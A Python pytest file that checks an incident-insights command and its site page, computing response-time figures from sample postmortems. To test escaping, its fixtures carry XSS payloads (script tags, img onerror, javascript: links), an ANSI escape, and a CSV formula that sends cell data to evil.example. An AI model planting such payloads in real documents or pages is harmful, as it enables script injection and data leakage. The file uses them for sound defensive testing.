"""Incident insights: the figures, computed here from the test's own postmortems, through
`opsbook insights` (json, text, csv), `opsbook generate`, and the built site's /insights/ page
and insights.json."""

from __future__ import annotations

import csv
import io
import statistics
import xml.etree.ElementTree as ET
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from conftest import POLICY, RUNBOOK, Handbook, Run, dedent
from htmldom import parse
from sitebuild import Built, build, install_site

TODAY = "2026-09-15"
ESC = "\x1b[31m"
HOSTILE_SERVICE = "pay <img src=x onerror=alert(1)> {tabindex=0 onfocus=alert(1)}"
HOSTILE_OWNER = '=HYPERLINK("http://evil.example/?x="&A1)' + ESC
HOSTILE_TITLE = "<script>alert(1)</script> [x](javascript:alert(1)) {onclick=alert(1)}"

# PM-A and PM-B are P1 (PM-B has no acknowledged time), PM-C is P2 (no mitigated time) and
# names the hostile service; a draft and a postmortem in review must be left out.
PM_A = """\
---
id: PM-A
title: API down after a deploy
date: 2026-07-01
severity: P1
services: [api]
status: published
timeline:
  started: "2026-07-01T10:00:00+00:00"
  detected: "2026-07-01T10:10:00+00:00"
  acknowledged: "2026-07-01T10:15:00+00:00"
  mitigated: "2026-07-01T10:40:00+00:00"
  resolved: "2026-07-01T12:00:00+00:00"
runbooks: [RB-0001]
action_items:
  - {id: AI-1, title: Add a canary, owner: alice, due: 2026-07-10, status: open}
  - {id: AI-2, title: Alert on errors, owner: alice, due: 2026-07-20, status: done}
---
Body.
"""

# Times with different UTC offsets: started 07:00 UTC.
PM_B = """\
---
id: PM-B
title: Database failover left the API without connections
date: 2026-07-20
severity: P1
services: [api, db]
status: published
timeline:
  started: "2026-07-20T09:00:00+02:00"
  detected: "2026-07-20T07:30:00+00:00"
  mitigated: "2026-07-20T09:00:00+00:00"
  resolved: "2026-07-20T06:00:00-05:00"
runbooks: [RB-0001]
action_items:
  - {id: AI-3, title: Use the leader DNS name, owner: bob, due: 2026-08-01, status: done}
  - {id: AI-4, title: Rewrite the pooler, owner: bob, due: 2026-08-05, status: wont_do}
---
Body.
"""

# The owner as a YAML double-quoted scalar: the escape \x1b stands for ESC.
OWNER_YAML = HOSTILE_OWNER.replace(ESC, "\\x1b[31m").replace('"', '\\"')

PM_C = f"""\
---
id: PM-C
title: '{HOSTILE_TITLE}'
date: 2026-08-03
severity: P2
services: [db, '{HOSTILE_SERVICE}']
status: published
timeline:
  started: "2026-08-03T00:00:00+00:00"
  detected: "2026-08-03T00:45:00+00:00"
  acknowledged: "2026-08-03T00:47:00+00:00"
  resolved: "2026-08-03T03:30:00+00:00"
action_items:
  - id: AI-5
    title: '{HOSTILE_TITLE}'
    owner: "{OWNER_YAML}"
    due: 2026-12-01
    status: open
---
Body.
"""


def draft(status: str, pm_id: str, day: str) -> str:
    return dedent(
        f"""
        ---
        id: {pm_id}
        title: Not final yet
        date: {day}
        severity: P1
        services: [api]
        status: {status}
        timeline:
          started: "{day}T10:00:00+00:00"
          detected: "{day}T18:00:00+00:00"
          resolved: "{day}T23:00:00+00:00"
        ---
        Body.
        """
    )


# The figures, by hand from the timelines above (minutes).
DETECT = {"P1": {"PM-A": 10, "PM-B": 30}, "P2": {"PM-C": 45}}
ACK = {"P1": {"PM-A": 5}, "P2": {"PM-C": 2}}
MITIGATE = {"P1": {"PM-A": 40, "PM-B": 120}, "P2": {}}
RESOLVE = {"P1": {"PM-A": 120, "PM-B": 240}, "P2": {"PM-C": 210}}
MEASURES = {
    "time_to_detect": DETECT,
    "time_to_acknowledge": ACK,
    "time_to_mitigate": MITIGATE,
    "time_to_resolve": RESOLVE,
}


def expected(values: dict[str, float]) -> dict[str, Any]:
    """n, median, p90, max and the postmortems, as the issue defines them."""
    ordered = sorted(values.items(), key=lambda kv: (kv[1], kv[0]))
    numbers = [v for _, v in ordered]
    if not numbers:
        return {"n": 0, "median": None, "p90": None, "max": None, "postmortems": []}
    p90 = (
        statistics.quantiles(numbers, n=10, method="inclusive")[8]
        if len(numbers) > 1
        else numbers[0]
    )
    return {
        "n": len(numbers),
        "median": round(statistics.median(numbers), 2),
        "p90": round(p90, 2),
        "max": max(numbers),
        "postmortems": [k for k, _ in ordered],
    }


@pytest.fixture
def book(tmp_path: Path) -> Handbook:
    hb = Handbook(tmp_path / "handbook")
    hb.write("policy.yml", POLICY)
    hb.write("runbooks/api/roll-back.md", RUNBOOK)
    hb.write("postmortems/2026-07-01-a.md", PM_A)
    hb.write("postmortems/2026-07-20-b.md", PM_B)
    hb.write("postmortems/2026-08-03-c.md", PM_C)
    hb.write("postmortems/2026-09-01-draft.md", draft("draft", "PM-D", "2026-09-01"))
    hb.write("postmortems/2026-09-02-review.md", draft("in_review", "PM-E", "2026-09-02"))
    return hb


def insights(opsbook: Callable[..., Run], root: Path, *args: str) -> dict[str, Any]:
    run = opsbook("insights", "--format", "json", "--today", TODAY, *args, cwd=root)
    assert run.code == 0, run.err
    data = run.json()
    assert isinstance(data, dict)
    return data


def figures(d: dict[str, Any]) -> dict[str, Any]:
    return {k: d[k] for k in ("n", "median", "p90", "max", "postmortems")}


def test_lint_accepts_the_test_handbook(book: Handbook, opsbook: Callable[..., Run]) -> None:
    run = opsbook("lint", "--today", TODAY, cwd=book.root)
    assert run.code == 0, run.out


def test_figures_by_severity_are_computed_as_the_issue_defines(
    book: Handbook, opsbook: Callable[..., Run]
) -> None:
    data = insights(opsbook, book.root)
    assert list(data["by_severity"]) == ["P1", "P2"]
    assert data["by_severity"]["P1"]["n"] == 2
    assert data["by_severity"]["P2"]["n"] == 1
    for measure, per_severity in MEASURES.items():
        for sev, values in per_severity.items():
            got = data["by_severity"][sev][measure]
            assert figures(got) == expected(values), (sev, measure)
            # Each postmortem's own value is there too, in the same order.
            assert got["values"] == [values[p] for p in got["postmortems"]]
    # p90 of two values: 10 + 0.9 * (30 - 10).
    assert data["by_severity"]["P1"]["time_to_detect"]["p90"] == 28


def test_missing_key_times_are_missing_never_zero(
    book: Handbook, opsbook: Callable[..., Run]
) -> None:
    data = insights(opsbook, book.root)
    ack = data["by_severity"]["P1"]["time_to_acknowledge"]
    assert ack["n"] == 1 and ack["postmortems"] == ["PM-A"]
    assert ack["median"] == 5  # not 2.5, which a zero for PM-B would give
    mitigate = data["by_severity"]["P2"]["time_to_mitigate"]
    assert mitigate == {
        "n": 0,
        "median": None,
        "p90": None,
        "max": None,
        "postmortems": [],
        "values": [],
    }


def test_drafts_and_reviews_are_left_out_and_counted(
    book: Handbook, opsbook: Callable[..., Run]
) -> None:
    data = insights(opsbook, book.root)
    assert data["postmortems"] == {"counted": 3, "left_out": {"draft": 1, "in_review": 1}}
    assert set(data["index"]) == {"PM-A", "PM-B", "PM-C"}
    assert [row["month"] for row in data["by_month"]] == ["2026-07", "2026-08"]
    assert data["by_month"][0]["counts"] == {"P1": 2, "P2": 0}
    assert data["by_month"][1]["counts"] == {"P1": 0, "P2": 1}
    assert list(data["by_quarter"]) == ["2026-Q3"]
    quarter = data["by_quarter"]["2026-Q3"]
    assert quarter["n"] == 3
    assert figures(quarter["time_to_resolve"]) == expected(RESOLVE["P1"] | RESOLVE["P2"])


def test_services_action_items_and_repeats(book: Handbook, opsbook: Callable[..., Run]) -> None:
    data = insights(opsbook, book.root)
    assert [(r["service"], r["incidents"]) for r in data["by_service"]] == [
        ("api", 2),
        ("db", 2),
        (HOSTILE_SERVICE, 1),
    ]
    items = data["action_items"]
    assert (items["total"], items["open"], items["overdue"], items["done"], items["wont_do"]) == (
        5,
        1,
        1,
        2,
        1,
    )
    # Past due and not dropped: AI-1 (open), AI-2 and AI-3 (done).
    assert items["done_by_due_date"] == {"due_passed": 3, "done": 2, "share": 0.67}
    # Open items' age in days since their incident: AI-1 (2026-07-01), AI-5 (2026-08-03).
    ages = [76, 43]
    age = items["open_age_days"]
    assert (age["n"], age["median"], age["max"]) == (2, statistics.median(ages), 76)
    assert age["p90"] == round(statistics.quantiles(ages, n=10, method="inclusive")[8], 2)
    assert age["items"] == ["PM-C/AI-5", "PM-A/AI-1"]
    owners = {r["owner"]: r for r in items["per_owner"]}
    assert owners["alice"]["overdue"] == 1 and owners["alice"]["done"] == 1
    assert owners["bob"]["wont_do"] == 1
    assert items["per_owner"][0]["owner"] == "alice"  # most overdue first
    months = {r["month"]: r for r in items["by_month"]}
    assert months["2026-07"]["overdue"] == 1 and months["2026-07"]["done"] == 1
    assert months["2026-12"]["open"] == 1
    # api: PM-A then PM-B 19 days later; db: PM-B then PM-C 14 days later (window 30).
    assert data["repeat_window_days"] == 30
    assert {(r["service"], tuple(r["postmortems"])) for r in data["repeats"]} == {
        ("api", ("PM-A", "PM-B")),
        ("db", ("PM-B", "PM-C")),
    }
    assert data["runbooks_reused"] == [
        {
            "runbook": "RB-0001",
            "title": "Roll back a deployment",
            "path": "runbooks/api/roll-back.md",
            "postmortems": ["PM-A", "PM-B"],
        }
    ]


def test_repeat_window_comes_from_the_policy(book: Handbook, opsbook: Callable[..., Run]) -> None:
    book.write("policy.yml", POLICY + "insights:\n  repeat_window_days: 15\n")
    assert opsbook("lint", "--today", TODAY, cwd=book.root).code == 0
    data = insights(opsbook, book.root)
    assert data["repeat_window_days"] == 15
    assert [(r["service"], r["postmortems"]) for r in data["repeats"]] == [("db", ["PM-B", "PM-C"])]


@pytest.mark.parametrize("value", ["0", "3651", "'30'"])
def test_repeat_window_is_bounded_by_the_schema(
    book: Handbook, opsbook: Callable[..., Run], value: str
) -> None:
    book.write("policy.yml", POLICY + f"insights:\n  repeat_window_days: {value}\n")
    run = opsbook("lint", "--today", TODAY, cwd=book.root)
    assert run.code in (1, 2), run.out
    assert "repeat_window_days" in run.out + run.err


def test_filters(book: Handbook, opsbook: Callable[..., Run]) -> None:
    assert insights(opsbook, book.root, "--severity", "P2")["postmortems"]["counted"] == 1
    since = insights(opsbook, book.root, "--since", "2026-07-15")
    assert since["postmortems"] == {"counted": 2, "left_out": {"draft": 1, "in_review": 1}}
    until = insights(opsbook, book.root, "--until", "2026-07-20")
    assert set(until["index"]) == {"PM-A", "PM-B"}
    assert until["postmortems"]["left_out"] == {"draft": 0, "in_review": 0}
    db = insights(opsbook, book.root, "--service", "db")
    assert set(db["index"]) == {"PM-B", "PM-C"}
    assert db["filters"]["service"] == "db"
    bad = opsbook("insights", "--since", "2026-13-01", cwd=book.root)
    assert bad.code == 2 and "--since" in bad.err and "Traceback" not in bad.err


def test_one_postmortem(handbook: Handbook, opsbook: Callable[..., Run]) -> None:
    data = insights(opsbook, handbook.root)
    detect = data["by_severity"]["P1"]["time_to_detect"]
    assert figures(detect) == {
        "n": 1,
        "median": 5,
        "p90": 5,
        "max": 5,
        "postmortems": ["PM-2026-001"],
    }
    assert data["by_severity"]["P1"]["time_to_acknowledge"]["n"] == 0
    assert data["repeats"] == [] and data["runbooks_reused"] == []


def test_no_postmortem(empty_handbook: Handbook, opsbook: Callable[..., Run]) -> None:
    data = insights(opsbook, empty_handbook.root)
    assert data["postmortems"]["counted"] == 0
    assert data["by_month"] == [] and data["by_quarter"] == {}
    for fmt in ("text", "csv"):
        assert opsbook("insights", "--format", fmt, cwd=empty_handbook.root).code == 0


def test_text_shows_figures_and_escapes_control_characters(
    book: Handbook, opsbook: Callable[..., Run]
) -> None:
    run = opsbook("insights", "--today", TODAY, cwd=book.root)
    assert run.code == 0, run.err
    assert "3 published postmortems counted; 1 draft and 1 in review left out" in run.out
    assert "time to detect: n=2 median 20 min, p90 28 min, max 30 min" in run.out
    assert "\x1b" not in run.out
    assert "\\x1b[31m" in run.out
    assert HOSTILE_SERVICE in run.out


def test_csv_cells_are_neutralised(book: Handbook, opsbook: Callable[..., Run]) -> None:
    run = opsbook("insights", "--format", "csv", "--today", TODAY, cwd=book.root)
    assert run.code == 0, run.err
    rows = list(csv.DictReader(io.StringIO(run.out, newline="")))
    owner_rows = [r for r in rows if r["section"] == "action_items_per_owner"]
    hostile = {r["group"] for r in owner_rows} - {"alice", "bob"}
    assert hostile and all(g.startswith("'=") for g in hostile)
    detect = next(
        r
        for r in rows
        if r["section"] == "by_severity" and r["group"] == "P1" and r["measure"] == "time_to_detect"
    )
    assert (detect["n"], detect["median"], detect["p90"], detect["max"]) == ("2", "20", "28", "30")
    assert detect["postmortems"] == "PM-A;PM-B"


def test_generate_writes_insights_json(
    book: Handbook, opsbook: Callable[..., Run], tmp_path: Path
) -> None:
    out = tmp_path / "out"
    run = opsbook("generate", out, "--today", TODAY, cwd=book.root)
    assert run.code == 0, run.err
    import json

    assert json.loads((out / "docs" / "insights.json").read_text(encoding="utf-8")) == insights(
        opsbook, book.root
    )
    page = (out / "docs" / "insights" / "index.md").read_text(encoding="utf-8")
    assert "<script" not in page.lower()
    assert "1 draft and 1 in review left out" in page


# --- the site ---------------------------------------------------------------------------------


@pytest.fixture
def site(book: Handbook, tmp_path: Path) -> Built:
    install_site(book.root)
    built = build(book.root, tmp_path / "site", today=TODAY)
    assert built.code == 0, built.log
    return built


SVG_NS = "{http://www.w3.org/2000/svg}"


def svgs(html: str) -> list[str]:
    out, rest = [], html
    while (start := rest.find("<svg")) >= 0:
        end = rest.index("</svg>", start) + len("</svg>")
        out.append(rest[start:end])
        rest = rest[end:]
    return out


def test_site_insights_json_is_the_command_json(
    site: Built, book: Handbook, opsbook: Callable[..., Run]
) -> None:
    assert site.json("insights.json") == insights(opsbook, book.root)


def test_page_shows_the_figures_with_links_to_their_postmortems(site: Built) -> None:
    article = site.content("insights/")
    text = article.text()
    assert "3 published postmortems counted. 1 draft and 1 in review left out" in text
    for term in ("Time to detect", "Definitions", "statistics.quantiles", "Repeat incidents"):
        assert term in text
    # The P1 row of time to detect: n 2, median 20 min, p90 28 min, max 30 min, where the
    # maximum links to PM-B's page and the others to the list of PM-A and PM-B.
    table = next(
        t for t in article.find_all("table") if "Severity" in t.text() and "p90" in t.text()
    )
    row = next(tr for tr in table.find_all("tr") if "P1" in tr.text())
    cells = [td.text().strip() for td in row.find_all("td")]
    assert cells[1:] == ["2", "2", "20 min", "28 min", "30 min"]
    links = [a.attrs["href"] for a in row.find_all("a") if "ob-sev-link" not in a.classes]
    anchor = links[0].lstrip("#")
    assert links[:3] == [f"#{anchor}"] * 3
    assert links[3].endswith("postmortems/2026-07-20-b/")
    behind = article.find(id=anchor)
    listed = behind.parent
    assert listed is not None
    hrefs = [a.attrs["href"] for a in listed.find_all("a")]
    assert any(h.endswith("postmortems/2026-07-01-a/") for h in hrefs)
    assert any(h.endswith("postmortems/2026-07-20-b/") for h in hrefs)
    # Missing stays missing: P2 has no time to mitigate.
    mitigate = [
        t for t in article.find_all("table") if "Severity" in t.text() and "p90" in t.text()
    ][2]
    p2 = next(tr for tr in mitigate.find_all("tr") if "P2" in tr.text())
    assert [td.text().strip() for td in p2.find_all("td")][2:] == ["0", "—", "—", "—"]


def test_page_charts_are_valid_svg_with_nothing_from_elsewhere(site: Built) -> None:
    html = site.html("insights/")
    charts = svgs(html)
    assert len(charts) >= 11  # 8 response-time charts, month, service, action items
    for chart in charts:
        root = ET.fromstring(chart)
        assert root.tag in (f"{SVG_NS}svg", "svg")
        for el in root.iter():
            assert not el.tag.endswith("script")
            for name, value in el.attrib.items():
                assert not name.lower().startswith("on")
                if name.endswith("href") or name == "src":
                    assert not urlsplit(value).netloc, value
                # Colours come from CSS (currentColor, variables), never fixed black.
                assert value.lower() not in ("#000", "#000000", "black"), (name, value)
    article = site.content("insights/")
    for el in article.iter():
        for name, value in el.attrs.items():
            assert not name.startswith("on"), (el.tag, name)
            if name in ("href", "src") and urlsplit(value).netloc:
                # The only links out of the site are the postmortems' own (none here).
                raise AssertionError(value)
    assert not article.find_all("script")


def test_page_keeps_hostile_strings_as_text(site: Built) -> None:
    article = site.content("insights/")
    assert not article.find_all("img")
    assert not article.find_all("script")
    for el in article.iter():
        assert not any(name.startswith("on") for name in el.attrs), el.tag
        assert not el.attrs.get("href", "").lower().startswith("javascript:")
    text = article.text()
    assert HOSTILE_SERVICE in text
    # The title shows where a postmortem is linked (repeats), as the link's title, as text.
    assert any(a.attrs.get("title") == HOSTILE_TITLE for a in article.find_all("a"))
    # Each chart has a table of its numbers beside it, with the hostile service as text.
    services = next(t for t in article.find_all("table") if "Service" in t.text())
    assert HOSTILE_SERVICE in services.text()


def test_page_in_the_nav_beside_postmortems_and_action_items(site: Built) -> None:
    nav = [a.text().strip() for a in site.page("").find_all("a", cls="md-nav__link")]
    assert "Insights" in nav
    assert nav.index("Insights") == nav.index("Action items") + 1


def test_page_of_a_handbook_without_published_postmortems(
    empty_handbook: Handbook, tmp_path: Path
) -> None:
    empty_handbook.write("postmortems/2026-09-01-d.md", draft("draft", "PM-D", "2026-09-01"))
    install_site(empty_handbook.root)
    built = build(empty_handbook.root, tmp_path / "site", today=TODAY)
    assert built.code == 0, built.log
    text = built.content("insights/").text()
    assert "0 published postmortems counted. 1 draft and 0 in review left out" in text
    assert built.json("insights.json")["postmortems"]["counted"] == 0


def test_page_html_parses(site: Built) -> None:
    parse(site.html("insights/"))


def test_dates_far_apart_and_any_utc_offset(
    book: Handbook, opsbook: Callable[..., Run], tmp_path: Path
) -> None:
    """Schema-valid extremes: a postmortem of 1900 with offsets of +14:00 and -12:00, another of
    2999 (after today, a lint error, still counted): months without incidents between them are
    not listed (13,200 of them), and the figures, the page and the JSON are still made."""
    old = dedent(
        """
        ---
        id: PM-OLD
        title: The oldest one
        date: 1900-01-01
        severity: P2
        services: [api]
        status: published
        timeline:
          started: "1900-01-01T00:00:00+14:00"
          detected: "1899-12-31T22:30:00-12:00"
          resolved: "1900-01-02T00:00:00+00:00"
        action_items:
          - {title: Look again, owner: zed, due: 1900-02-01, status: open}
        ---
        Body.
        """
    )
    book.write("postmortems/1900-01-01-old.md", old)
    book.write(
        "postmortems/2999-12-31-late.md",
        old.replace("PM-OLD", "PM-LATE")
        .replace("1900-01-01", "2999-12-31")
        .replace("1899-12-31", "2999-12-30")
        .replace("1900-01-02T00:00:00", "2999-12-31T23:00:00")
        .replace("1900-02-01", "2999-12-31"),
    )
    data = insights(opsbook, book.root)
    months = [row["month"] for row in data["by_month"]]
    assert months == ["1900-01", "2026-07", "2026-08", "2999-12"]
    # started 1899-12-31T10:00Z, detected 1900-01-01T10:30Z: 24 h 30 min.
    detect = data["by_severity"]["P2"]["time_to_detect"]
    assert dict(zip(detect["postmortems"], detect["values"], strict=True))["PM-OLD"] == 1470
    assert data["action_items"]["open_age_days"]["max"] > 45000
    out = tmp_path / "out"
    assert opsbook("generate", out, "--today", TODAY, cwd=book.root).code == 0
    assert "1900-01" in (out / "docs" / "insights" / "index.md").read_text(encoding="utf-8")
    for fmt in ("text", "csv"):
        assert opsbook("insights", "--format", fmt, cwd=book.root).code == 0
